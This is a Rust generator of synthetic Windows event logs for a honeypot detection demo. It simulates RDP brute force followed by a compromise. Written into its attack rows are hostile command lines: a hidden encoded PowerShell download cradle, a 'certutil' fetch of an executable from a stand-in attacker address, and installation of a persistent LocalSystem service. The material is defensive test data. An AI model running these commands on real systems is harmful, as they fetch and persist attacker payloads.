//! The demo's events: one day of a Windows honeypot exposed over RDP.
//!
//! Background: service and interactive logons with their logoffs and
//! privileges, routine process creations, service state changes, and a
//! trickle of failed logons from internet scanners (a few per hour per
//! address, below the brute-force rule's threshold of 20 an hour).
//!
//! The attack lies in the last hour, because most built-in rules read the
//! last hour and must see it at their first run. It starts with bursts of
//! failed logons (4625) from three addresses and one successful RDP logon
//! (4624, logon type 10) from the third. Encoded PowerShell and a
//! `certutil` download follow (4688), then a new service (7045 in `Event`,
//! 4697 in `SecurityEvent`).
//!
//! Every choice comes from a `StdRng` seeded with the demo seed, and every
//! time is an offset from the anchor (the start minute), so a seed gives
//! the same events apart from the anchor.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom as _;
use rand::{Rng as _, SeedableRng as _};
use store::builder::TableBatchBuilder;
use store::tables::{EVENT, SECURITY_EVENT};

/// The honeypot's `Computer` value.
pub const HOST: &str = "HONEYPOT01";

/// The addresses that run the brute force; the demo feed lists the first
/// and the third.
pub const ATTACKERS: [&str; 3] = ["203.0.113.45", "198.51.100.77", "192.0.2.199"];

/// The address whose guess succeeds.
pub const SUCCESSFUL_ATTACKER: &str = ATTACKERS[2];

const TICKS_PER_SECOND: i64 = 10_000_000;
const TICKS_PER_MINUTE: i64 = 60 * TICKS_PER_SECOND;
const TICKS_PER_HOUR: i64 = 60 * TICKS_PER_MINUTE;

const LOCAL_SID: &str = "S-1-5-21-1004336348-1177238915-682003330";

/// Internet scanners that try a few passwords an hour. Like the
/// attackers, they are documentation addresses (RFC 5737), which belong to
/// no real host.
const SCANNERS: [&str; 6] = [
    "203.0.113.8",
    "203.0.113.150",
    "198.51.100.14",
    "198.51.100.230",
    "192.0.2.33",
    "192.0.2.87",
];

const GUESSED_NAMES: [&str; 10] = [
    "administrator",
    "admin",
    "user",
    "test",
    "guest",
    "backup",
    "scanner",
    "support",
    "rdpuser",
    "Administrator",
];

const ROUTINE_PROCESSES: [(&str, &str, &str); 6] = [
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"C:\Windows\System32\svchost.exe",
        "taskhostw.exe KEYROAMING",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"C:\Windows\System32\cmd.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        r"C:\Windows\System32\gpupdate.exe",
        r"C:\Windows\System32\svchost.exe",
        "gpupdate.exe /target:computer",
    ),
];

/// The generated rows.
pub struct DemoEvents {
    pub security_event: TableBatchBuilder,
    pub event: TableBatchBuilder,
}

/// One `SecurityEvent` row's varying fields.
#[derive(Default)]
struct SecurityRow<'a> {
    event_id: i32,
    account: Option<(&'a str, &'a str)>,
    subject: Option<(&'a str, &'a str)>,
    ip: Option<&'a str>,
    logon_type: Option<i32>,
    process: Option<(&'a str, &'a str, &'a str)>,
    status: Option<&'a str>,
    event_data: Option<String>,
}

struct Writer {
    security_event: TableBatchBuilder,
    event: TableBatchBuilder,
    rng: StdRng,
}

impl Writer {
    fn set(builder: &mut TableBatchBuilder, column: &str, value: &str) {
        let index = builder
            .table()
            .column_index(column)
            .unwrap_or_else(|| panic!("{} has no column {column}", builder.table().name));
        builder.set_string(index, value);
    }

    fn set_int(builder: &mut TableBatchBuilder, column: &str, value: i32) {
        let index = builder
            .table()
            .column_index(column)
            .unwrap_or_else(|| panic!("{} has no column {column}", builder.table().name));
        builder.set_int(index, value);
    }

    fn security(&mut self, ticks: i64, row: SecurityRow<'_>) {
        let builder = &mut self.security_event;
        builder.set_time_generated(ticks);
        Self::set(builder, "Computer", HOST);
        Self::set_int(builder, "EventID", row.event_id);
        Self::set(
            builder,
            "Activity",
            &ingest::evtx::security_activity(row.event_id),
        );
        Self::set(builder, "Channel", "Security");
        Self::set(
            builder,
            "EventSourceName",
            "Microsoft-Windows-Security-Auditing",
        );
        Self::set(builder, "Level", "0");
        Self::set(builder, "Type", SECURITY_EVENT.name);
        if let Some((domain, user)) = row.account {
            Self::set(builder, "TargetUserName", user);
            Self::set(builder, "TargetDomainName", domain);
            Self::set(builder, "TargetAccount", &format!("{domain}\\{user}"));
            Self::set(builder, "Account", &format!("{domain}\\{user}"));
            Self::set(builder, "AccountType", "User");
        }
        if let Some((domain, user)) = row.subject {
            Self::set(builder, "SubjectUserName", user);
            Self::set(builder, "SubjectDomainName", domain);
            Self::set(builder, "SubjectAccount", &format!("{domain}\\{user}"));
            if row.account.is_none() {
                Self::set(builder, "Account", &format!("{domain}\\{user}"));
                Self::set(builder, "AccountType", "User");
            }
        }
        if let Some(ip) = row.ip {
            Self::set(builder, "IpAddress", ip);
            Self::set(
                builder,
                "IpPort",
                &self.rng.random_range(49152..65535).to_string(),
            );
            Self::set(builder, "WorkstationName", "-");
        }
        if let Some(logon_type) = row.logon_type {
            Self::set_int(builder, "LogonType", logon_type);
            Self::set(
                builder,
                "LogonTypeName",
                &ingest::evtx::logon_type_name(i64::from(logon_type)),
            );
            let (process, package) = if logon_type == 5 {
                ("Advapi  ", "Negotiate")
            } else {
                ("NtLmSsp ", "NTLM")
            };
            Self::set(builder, "LogonProcessName", process);
            Self::set(builder, "AuthenticationPackageName", package);
        }
        if let Some((image, parent, command_line)) = row.process {
            Self::set(builder, "NewProcessName", image);
            Self::set(builder, "ParentProcessName", parent);
            Self::set(builder, "CommandLine", command_line);
            Self::set(
                builder,
                "Process",
                image.rsplit('\\').next().unwrap_or(image),
            );
            Self::set(
                builder,
                "NewProcessId",
                &format!("0x{:x}", self.rng.random_range(0x400..0x4000)),
            );
        }
        if let Some(status) = row.status {
            Self::set(builder, "Status", status);
            Self::set(builder, "SubStatus", "0xc000006a");
            Self::set(builder, "FailureReason", "%%2313");
        }
        if let Some(event_data) = &row.event_data {
            Self::set(builder, "EventData", event_data);
        }
        builder
            .finish_row()
            .expect("every demo row sets TimeGenerated");
    }

    fn system_event(&mut self, ticks: i64, event_id: i32, description: &str, event_data: &str) {
        let builder = &mut self.event;
        builder.set_time_generated(ticks);
        Self::set(builder, "Computer", HOST);
        Self::set_int(builder, "EventID", event_id);
        Self::set(builder, "EventLog", "System");
        Self::set(builder, "Source", "Service Control Manager");
        Self::set_int(builder, "EventLevel", 4);
        Self::set(builder, "EventLevelName", "Information");
        Self::set(builder, "RenderedDescription", description);
        Self::set(builder, "EventData", event_data);
        Self::set(builder, "UserName", "NT AUTHORITY\\SYSTEM");
        Self::set(builder, "Type", EVENT.name);
        builder
            .finish_row()
            .expect("every demo row sets TimeGenerated");
    }
}

const SYSTEM: (&str, &str) = ("NT AUTHORITY", "SYSTEM");
const OWNER: (&str, &str) = (HOST, "alice");

/// Generates the demo day ending at `anchor_ticks`. `import_id` and
/// `ingest_ticks` fill the hidden columns.
pub fn generate(seed: u64, anchor_ticks: i64, import_id: &str, ingest_ticks: i64) -> DemoEvents {
    let mut writer = Writer {
        security_event: TableBatchBuilder::new(&SECURITY_EVENT, import_id, ingest_ticks, 8192),
        event: TableBatchBuilder::new(&EVENT, import_id, ingest_ticks, 256),
        rng: StdRng::seed_from_u64(seed),
    };
    let day_start = anchor_ticks - 24 * TICKS_PER_HOUR;
    background(&mut writer, day_start, anchor_ticks);
    attack(&mut writer, anchor_ticks);
    DemoEvents {
        security_event: writer.security_event,
        event: writer.event,
    }
}

fn background(writer: &mut Writer, start: i64, end: i64) {
    // Routine activity every few minutes, ending two minutes before the
    // anchor so that the newest rows are the attack's.
    let mut ticks = start;
    while ticks < end - 2 * TICKS_PER_MINUTE {
        let roll = writer.rng.random_range(0..100);
        if roll < 45 {
            let process = *ROUTINE_PROCESSES
                .choose(&mut writer.rng)
                .expect("the process list is not empty");
            writer.security(
                ticks,
                SecurityRow {
                    event_id: 4688,
                    subject: Some(SYSTEM),
                    process: Some(process),
                    ..SecurityRow::default()
                },
            );
        } else if roll < 75 {
            writer.security(
                ticks,
                SecurityRow {
                    event_id: 4624,
                    account: Some(SYSTEM),
                    subject: Some(SYSTEM),
                    logon_type: Some(5),
                    ..SecurityRow::default()
                },
            );
            writer.security(
                ticks,
                SecurityRow {
                    event_id: 4672,
                    subject: Some(SYSTEM),
                    ..SecurityRow::default()
                },
            );
        } else if roll < 85 {
            writer.system_event(
                ticks,
                7036,
                "The Windows Update service entered the running state.",
                r#"<EventData><Data Name="param1">Windows Update</Data><Data Name="param2">running</Data></EventData>"#,
            );
        } else {
            // An internet scanner's guess.
            let scanner = *SCANNERS.choose(&mut writer.rng).expect("not empty");
            let name = *GUESSED_NAMES.choose(&mut writer.rng).expect("not empty");
            writer.security(
                ticks,
                SecurityRow {
                    event_id: 4625,
                    account: Some((HOST, name)),
                    subject: Some(("-", "-")),
                    ip: Some(scanner),
                    logon_type: Some(3),
                    status: Some("0xc000006d"),
                    ..SecurityRow::default()
                },
            );
        }
        ticks += writer
            .rng
            .random_range(2 * TICKS_PER_MINUTE..6 * TICKS_PER_MINUTE);
    }

    // The owner works on the console in the morning and over RDP from the
    // office in the afternoon.
    for (hour, logon_type, ip) in [(8, 2, None), (14, 10, Some("10.20.30.40"))] {
        let at = start + hour * TICKS_PER_HOUR + writer.rng.random_range(0..TICKS_PER_HOUR / 2);
        writer.security(
            at,
            SecurityRow {
                event_id: 4624,
                account: Some(OWNER),
                subject: Some(SYSTEM),
                ip,
                logon_type: Some(logon_type),
                ..SecurityRow::default()
            },
        );
        writer.security(
            at + 2 * TICKS_PER_HOUR,
            SecurityRow {
                event_id: 4634,
                account: Some(OWNER),
                logon_type: Some(logon_type),
                ..SecurityRow::default()
            },
        );
    }
}

fn attack(writer: &mut Writer, anchor: i64) {
    // (address, failures, burst start and end in minutes before the anchor)
    let bursts = [
        (ATTACKERS[0], 64, 56, 41),
        (ATTACKERS[1], 42, 52, 38),
        (SUCCESSFUL_ATTACKER, 35, 47, 26),
    ];
    for (address, failures, from_minutes, to_minutes) in bursts {
        let from = anchor - from_minutes * TICKS_PER_MINUTE;
        let span = (from_minutes - to_minutes) * TICKS_PER_MINUTE;
        for index in 0..failures {
            let at =
                from + span * index / failures + writer.rng.random_range(0..TICKS_PER_SECOND * 5);
            let name = *GUESSED_NAMES.choose(&mut writer.rng).expect("not empty");
            writer.security(
                at,
                SecurityRow {
                    event_id: 4625,
                    account: Some((HOST, name)),
                    subject: Some(("-", "-")),
                    ip: Some(address),
                    logon_type: Some(3),
                    status: Some("0xc000006d"),
                    ..SecurityRow::default()
                },
            );
        }
    }

    let administrator = (HOST, "Administrator");
    let logon = anchor - 24 * TICKS_PER_MINUTE;
    writer.security(
        logon,
        SecurityRow {
            event_id: 4624,
            account: Some(administrator),
            subject: Some(SYSTEM),
            ip: Some(SUCCESSFUL_ATTACKER),
            logon_type: Some(10),
            ..SecurityRow::default()
        },
    );
    writer.security(
        logon,
        SecurityRow {
            event_id: 4672,
            subject: Some(administrator),
            ..SecurityRow::default()
        },
    );

    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let steps: [(i64, (&str, &str, &str)); 4] = [
        (
            21,
            (
                r"C:\Windows\System32\cmd.exe",
                r"C:\Windows\explorer.exe",
                r#""C:\Windows\system32\cmd.exe""#,
            ),
        ),
        (
            20,
            (
                r"C:\Windows\System32\whoami.exe",
                r"C:\Windows\System32\cmd.exe",
                "whoami /priv",
            ),
        ),
        (
            19,
            (
                powershell,
                r"C:\Windows\System32\cmd.exe",
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            ),
        ),
        (
            18,
            (
                r"C:\Windows\System32\certutil.exe",
                powershell,
                r"certutil.exe -urlcache -split -f http://198.51.100.77/updsvc.exe C:\ProgramData\updsvc.exe",
            ),
        ),
    ];
    for (minutes_before, process) in steps {
        writer.security(
            anchor - minutes_before * TICKS_PER_MINUTE,
            SecurityRow {
                event_id: 4688,
                subject: Some(administrator),
                process: Some(process),
                ..SecurityRow::default()
            },
        );
    }

    let service_at = anchor - 16 * TICKS_PER_MINUTE;
    writer.system_event(
        service_at,
        7045,
        "A service was installed in the system. Service Name: Update Service Helper",
        r#"<EventData><Data Name="ServiceName">Update Service Helper</Data><Data Name="ImagePath">C:\ProgramData\updsvc.exe</Data><Data Name="ServiceType">user mode service</Data><Data Name="StartType">auto start</Data><Data Name="AccountName">LocalSystem</Data></EventData>"#,
    );
    writer.security(
        service_at,
        SecurityRow {
            event_id: 4697,
            subject: Some(administrator),
            event_data: Some(format!(
                r#"<EventData><Data Name="SubjectUserSid">{LOCAL_SID}-500</Data><Data Name="SubjectUserName">Administrator</Data><Data Name="SubjectDomainName">{HOST}</Data><Data Name="ServiceName">Update Service Helper</Data><Data Name="ServiceFileName">C:\ProgramData\updsvc.exe</Data><Data Name="ServiceType">0x10</Data><Data Name="ServiceStartType">2</Data><Data Name="ServiceAccount">LocalSystem</Data></EventData>"#
            )),
            ..SecurityRow::default()
        },
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_gives_same_rows() {
        let anchor = 17_649_000_000_000_000;
        let mut first = generate(7, anchor, "demo", anchor);
        let mut second = generate(7, anchor, "demo", anchor);
        let (a, b) = (
            first.security_event.finish(),
            second.security_event.finish(),
        );
        assert_eq!(a, b);
        assert!(a.num_rows() > 300, "{} rows", a.num_rows());
        let mut other = generate(8, anchor, "demo", anchor);
        assert_ne!(a, other.security_event.finish());
    }
}
